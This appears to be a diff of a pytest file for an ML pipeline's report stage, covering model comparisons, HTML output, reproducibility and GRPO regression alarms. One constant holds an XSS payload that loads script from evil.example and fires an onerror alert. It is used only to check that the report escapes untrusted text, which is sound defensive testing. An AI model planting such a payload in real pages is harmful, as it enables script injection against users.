@@ -1,34 +1,253 @@
+"""The whole report on the files that the other stages leave behind, made up here."""
+
+import json
+import random
+import re
+import shutil
+from html.parser import HTMLParser
+from pathlib import Path
+
 import pytest
 
 from stages import report
+from stages.core import params as parameters
+from stages.core.errors import UserError
+from stages.core.files import write_csv, write_json, write_rows
+from stages.core.params import Params, Report
+from stages.core.stage import Run
+from stages.core.tracking import Spool
+from tests.conftest import ROOT
+
+MODELS = ("base", "sft", "control", "grpo", "student")
+RIGHT = {"base": 0, "sft": 20, "control": 35, "grpo": 36, "student": 34}  # of 40 problems
+HARMED = {**RIGHT, "grpo": 4}
+HOSTILE = '</pre><script src="http://evil.example/x.js"></script><img src=x onerror=alert(1)>'
+FILES = {"report.md", "report.html", "table.txt", "summary.json", "accuracy.png", "grpo.png",
+         "supervised.png"}  # fmt: skip
 
 
-def pair(low: float, high: float) -> dict:
-    return {"difference": (low + high) / 2, "low": low, "high": high}
+def sample(task: str, i: int, correct: bool, model: str) -> dict:
+    """A row as an evaluation of several tasks writes it."""
+    return {
+        "task": task, "question": f"question {i} {HOSTILE}", "gold": "4", "prompt": "p",
+        "level": str(1 + i % 3) if task == "math" else None,
+        "completion": f"{model} says {HOSTILE}", "answer": "4" if correct else None,
+        "correct": correct, "flexible": correct, "compliant": True, "shows_working": True,
+        "reward": float(correct), "tokens": 9, "truncated": False,
+        "error": None if correct else "reasoning",
+    }  # fmt: skip
 
 
-@pytest.mark.parametrize(
-    ("low", "high", "says"),
-    [
-        (0.02, 0.05, "GRPO did more than elicit"),
-        (-0.01, 0.02, "that it added skill is not shown"),
-        (-0.05, -0.02, "GRPO is worse than"),
-    ],
-)
-def test_what_grpo_changed_is_said_by_the_interval_against_the_control(low, high, says):
-    assert says in report.against_control(pair(low, high))
+MEASURES = ("mean_reward", "pass@1", "pass@4", "maj@4")
 
 
-def test_flips_are_counted_on_the_same_questions_only():
-    def rows(**correct):
-        return [{"question": q, "correct": c} for q, c in correct.items()]
+def score(right: int) -> dict:
+    share = right / 40
+    several = dict.fromkeys(MEASURES, share)
+    return {"n": 40, "accuracy": share, "low": max(0, share - 0.1), "high": min(1, share + 0.1),
+            "stderr": 0.05, "flexible_accuracy": share, "format_compliance_rate": 1.0,
+            "shows_working": 1.0, "high_reward_rate": share, "truncated": 0.0, **several,
+            "errors": {"reasoning": 40 - right}}  # fmt: skip
 
-    samples = {"sft": rows(a=True, b=False, c=False, d=True), "grpo": rows(a=False, b=True, c=True)}
-    found = report.compared(samples, "sft", "grpo")
-    assert (found["n"], found["gained"], found["lost"]) == (3, 2, 1)
-    assert found["difference"] == pytest.approx(1 / 3)
+
+def measures(right: int) -> dict:
+    """The intervals that an evaluation keeps beside its samples."""
+    share = right / 40
+    entry = {"value": share, "stderr": 0.05, "low": share / 2, "high": share}
+    return dict.fromkeys(("accuracy", *MEASURES), entry)
 
 
-def test_text_from_outside_cannot_break_the_page():
-    page = report.html_table([["model"], ["<script>alert(1)</script>"]])
-    assert "<script>" not in page and "&lt;script&gt;" in page
+OLD_SCORE = ("n", "accuracy", "low", "high", "format_compliance_rate", "shows_working")
+OLD_ROW = ("question", "gold", "level", "prompt", "completion", "answer", "correct", "compliant",
+           "shows_working")  # fmt: skip
+
+
+def write_project(tasks: dict[str, dict[str, int]], old: bool = False) -> None:
+    """What the stages before this one leave behind, in the working folder.
+
+    Args:
+        tasks: task -> model -> how many of 40 problems it gets right.
+        old: as an evaluation of one task and one completion a problem writes it.
+    """
+    for model in MODELS:
+        rows = [sample(task, i, i < right[model], model)
+                for task, right in tasks.items() for i in range(40)]  # fmt: skip
+        scores = {task: score(right[model]) for task, right in tasks.items()}
+        if old:
+            rows = [{key: row[key] for key in OLD_ROW} for row in rows]
+            scores = {t: {key: s[key] for key in OLD_SCORE} for t, s in scores.items()}
+        more = {} if old else {"tokens": 1234567, "peak_memory_mb": 812.4}
+        if not old:
+            write_json(Path(f"samples/{model}.json"),
+                       {task: measures(right[model]) for task, right in tasks.items()})  # fmt: skip
+        write_rows(Path(f"samples/{model}.jsonl"), rows)
+        write_json(Path(f"metrics/evaluate/{model}.json"),
+                   {"parameters": 1000, **scores, "seconds": 5.0, **more})  # fmt: skip
+    seconds = {"seconds": 61.4}
+    for stage in ("base", "audit", "sft", "grpo", "distill"):
+        write_json(Path(f"metrics/{stage}.json"), seconds)
+    write_json(Path("metrics/prepare.json"),
+               {"test": 40, "test_chains_seen_in_training": 0.0, **seconds})  # fmt: skip
+    write_json(Path("metrics/merge.json"),
+               {"max_logit_diff": 1e-5, "top1_agreement": 1.0, **seconds})  # fmt: skip
+    write_training()
+
+
+def write_training() -> None:
+    generator = random.Random(0)
+    curve = [
+        {"step": i, "loss": 1 / i, "mean_reward": i / 9, "rewards/correctness/mean": i / 9,
+         "rewards/format/mean": 1.0, "entropy": 0.1, "kl_div": None}
+        for i in range(1, 9)
+    ]  # fmt: skip
+    for name in ("sft", "grpo", "distill"):
+        write_csv(Path(f"plots/{name}.csv"), curve)
+    write_rows(Path("rollouts/grpo.jsonl"), (
+        {"step": 1 + i // 8, "question": f"q{i // 4}", "gold": "1", "completion": "c",
+         "rewards": {"correctness": generator.random(), "format": generator.random()}}
+        for i in range(64)
+    ))  # fmt: skip
+
+
+@pytest.fixture
+def params(raw):
+    """Validated in the checkout, which keeps what the trainers' options are."""
+    return parameters.validate(raw, "params.yaml")
+
+
+@pytest.fixture
+def project(params, here):
+    for name in ("dvc.yaml", "params.yaml"):
+        shutil.copy(ROOT / name, here / name)
+    return here
+
+
+def run(params: Params, fail_if_worse: bool = False) -> list[dict]:
+    """The events that a report leaves for the trackers."""
+    params = params.model_copy(update={"report": Report(fail_if_worse=fail_if_worse)})
+    spool = Path("events.jsonl")
+    spool.unlink(missing_ok=True)
+    report.body(params, Run("report", params, Spool(spool)))
+    return [json.loads(line) for line in spool.read_text().splitlines()]
+
+
+class Reader(HTMLParser):
+    def __init__(self, text: str):
+        super().__init__()
+        self.tags: list[str] = []
+        self.attributes: list[tuple[str, str]] = []
+        self.feed(text)
+
+    def handle_starttag(self, tag, attributes):
+        self.tags.append(tag)
+        self.attributes += [(name, value or "") for name, value in attributes]
+
+
+def test_a_run_of_several_tasks(project, params):
+    write_project({"gsm8k": RIGHT, "math": RIGHT})
+    events = run(params)
+    assert {path.name for path in Path("reports").iterdir()} == FILES
+    text = Path("reports/report.md").read_text()
+    assert "| gsm8k | grpo | 1,000 | 0.900 |" in text
+    assert "- **better**: GRPO against SFT, math: +40.0 points [" in text
+    assert "| math | grpo | 0.900 [0.450, 0.900] |" in text, "pass@1, in order"
+    assert "## By level: math" in text and "## By level: gsm8k" not in text
+    assert "| gsm8k | sft | 40 | 50.0% | 50.0% | 0.0% | 0.0% | 0.0% |" in text, "kinds of error"
+    assert "| evaluate@grpo | 5 | 1,234,567 | 812 |" in text and "| all | 455 |" in text
+    assert "dvc repro evaluate@student" in text
+    shares = re.findall(r"^\| (?:correctness|format) \|.* (\d+\.\d)% \|$", text, re.MULTILINE)
+    assert len(shares) == 2 and float(shares[0]) > 99, "the weight of format is 0"
+
+    table = next(event for event in events if event["event"] == "table")
+    assert len(table["rows"]) == 10 and table["rows"][3]["pass@4_low"] == 0.45
+    assert table["rows"][3]["errors.reasoning"] == 4, "no cell holds a table"
+    sent = {Path(event["path"]).name for event in events if event["event"] == "artifact"}
+    assert sent == FILES
+    values = next(event for event in events if event["event"] == "metrics")["values"]
+    assert values["grpo.math.accuracy"] == 0.9 and len(values) == 10
+    summary = json.loads(Path("reports/summary.json").read_text())
+    assert summary["models"]["grpo"]["tasks"]["math"]["accuracy"] == 0.9
+    assert "pass@4_low" not in summary["models"]["grpo"]["tasks"]["math"]
+    assert summary["pairs"]["math"]["sft-grpo"]["verdict"] == "better"
+    assert {"report", "evaluate@grpo", "audit"} <= set(summary["seconds"])
+
+
+def test_the_page_opens_offline_and_every_link_leads_somewhere(project, params):
+    write_project({"gsm8k": RIGHT, "math": HARMED})
+    run(params)
+    page = Path("reports/report.html").read_text()
+    found = Reader(page)
+    assert not {"script", "img", "link", "iframe", "object", "base"} & set(found.tags)
+    ids = [value for name, value in found.attributes if name == "id"]
+    assert len(ids) == len(set(ids))
+    leads = [v for name, v in found.attributes if name in ("href", "xlink:href", "src", "action")]
+    assert leads and all(value.startswith("#") and value[1:] in ids for value in leads)
+    assert not re.search(r"url\((?!#)|@import", page)
+    assert found.tags.count("svg") == 1 + 4 + 2
+    assert "gsm8k, sft to grpo, gained: 16" in page
+    assert "math, base to sft, gained: 20<" in page
+    assert "math, control to grpo, lost: 31, the first 20 of them" in page
+    assert page.count("grpo says &lt;/pre&gt;&lt;script") == (16 + 1 + 2) + (16 + 20 + 20)
+
+
+def test_a_report_is_the_same_bits_every_time(project, params):
+    write_project({"math": RIGHT})
+    bits = []
+    for _ in range(2):
+        run(params)
+        bits.append({path.name: path.read_bytes() for path in Path("reports").iterdir()})
+        bits[-1].pop("summary.json")  # says how long this took
+        shutil.rmtree("reports")
+    assert bits[0] == bits[1]
+
+
+def test_an_evaluation_without_the_newer_scores(project, params):
+    write_project({"arithmetic": RIGHT}, old=True)
+    run(params)
+    text = Path("reports/report.md").read_text()
+    assert "| grpo | 1,000 | 0.900 | [0.800, 1.000] | 1.000 | 1.000 |" in text
+    for absent in ("Kinds of error", "pass@", "mean reward [", "tokens", "Several samples"):
+        assert absent not in text
+    lines = Path("reports/table.txt").read_text().splitlines()
+    assert lines[0] == "model    parameters  accuracy  95 % interval   format  what it is"
+    assert lines[4] == "grpo     1,000       0.900     [0.800, 1.000]  1.000   after GRPO, adapter merged"  # fmt: skip # noqa: E501
+
+
+def test_without_curves_there_are_still_all_files(project, params):
+    """sft.method: none leaves an empty curve."""
+    write_project({"arithmetic": RIGHT})
+    write_csv(Path("plots/sft.csv"), [{"step": 0, "loss": None}])
+    write_csv(Path("plots/distill.csv"), [{"step": 0, "loss": None}])
+    write_rows(Path("rollouts/grpo.jsonl"), [])
+    run(params)
+    assert {path.name for path in Path("reports").iterdir()} == FILES
+
+
+def test_harm_by_grpo_is_said_first_and_fails_only_where_it_is_asked_to(project, params):
+    write_project({"gsm8k": RIGHT, "math": HARMED})
+    run(params)
+    said = Path("reports/report.md").read_text().splitlines()[2]
+    assert said.startswith("**GRPO is worse than SFT on math (-40.0 points [")
+    page = Path("reports/report.html").read_text()
+    assert page.index('class="alarm"') < page.index('class="verdicts"')
+
+    shutil.rmtree("reports")
+    with pytest.raises(
+        UserError, match=r"^GRPO is worse than SFT on math \(-40.*if_worse to false$"
+    ):
+        run(params, fail_if_worse=True)
+    assert {path.name for path in Path("reports").iterdir()} == FILES
+    assert "artifact" in Path("events.jsonl").read_text()
+
+    write_project({"gsm8k": RIGHT, "math": RIGHT})
+    run(params, fail_if_worse=True)
+    assert 'class="alarm"' not in Path("reports/report.html").read_text()
+
+
+def test_metrics_without_a_task_are_a_users_mistake(project, params):
+    write_project({})
+    with pytest.raises(UserError, match="name no task"):
+        run(params)
+    Path("metrics/evaluate/sft.json").unlink()
+    with pytest.raises(UserError, match=r"metrics/evaluate/sft.json is missing"):
+        run(params)
